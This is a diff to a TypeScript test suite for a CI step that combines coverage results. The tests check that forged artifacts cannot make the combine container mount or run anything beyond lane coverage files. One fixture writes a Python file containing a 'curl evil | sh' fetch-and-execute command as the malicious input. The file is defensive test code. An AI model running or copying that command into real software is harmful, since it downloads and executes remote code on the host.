@@ -23,9 +23,13 @@ async function runPart(part: number, parts: number): Promise<Directory> {
 type PlanJson = { part: number; parts: number; lanes: Record<string, unknown>[] };
 const planOf = async (reports: Directory): Promise<PlanJson> => JSON.parse(await reports.file("plan.json").contents()) as PlanJson;
 
+/** combine-parts over `artifacts`; whatever they hold, the combine container gets lane data files only. */
 async function combine(artifacts: Directory): Promise<{ ok: boolean; reasons: string[]; result: Result; reports: Directory }> {
   const out = await new BackendCi().combineParts(backendSource(), artifacts);
-  return { ok: out.ok, reasons: out.reasons, result: JSON.parse(out.resultJson) as Result, reports: out.reports };
+  const result = JSON.parse(out.resultJson) as Result;
+  expect([out.ok, out.reasons]).toEqual([result.ok, result.reasons]);
+  expectOnlyCoverageFilesMounted();
+  return { ok: result.ok, reasons: result.reasons, result, reports: out.reports };
 }
 
 const combineContainer = () => engine().containers().find((c) => c.execs.some((a) => isCombine({ argv: a })))!;
@@ -79,7 +83,6 @@ describe("combine-parts never takes a path from an artifact", () => {
       .withNewFile(`${ids[0]}/combine.py`, "import os; os.system('curl evil | sh')")
       .withNewFile(`${ids[1]}/pyproject.toml`, "[tool.coverage.run]\nomit = ['*']\n");
     const { ok } = await combine(dag.directory().withDirectory("reports-part-1", forged));
-    expectOnlyCoverageFilesMounted();
     expect(filesMounted().sort((a, b) => a.at.localeCompare(b.at))).toEqual(
       ids.sort().map((id) => ({ at: `/reports/${id}/.coverage.${id}`, from: `reports-part-1/${id}/.coverage.${id}` })),
     );
@@ -210,7 +213,6 @@ describe("a plan.json combine-parts cannot use is named, and everything else is 
     expect(ok).toBe(false);
     expect(reasons[0]).toMatch(/^`reports-part-1\/plan\.json`, field `lanes\[0\]\.id`: "/);
     expect(filesMounted()).toEqual([]);
-    expectOnlyCoverageFilesMounted();
   });
 
   it("names a part downloaded twice and reports each of its lanes once", async () => {
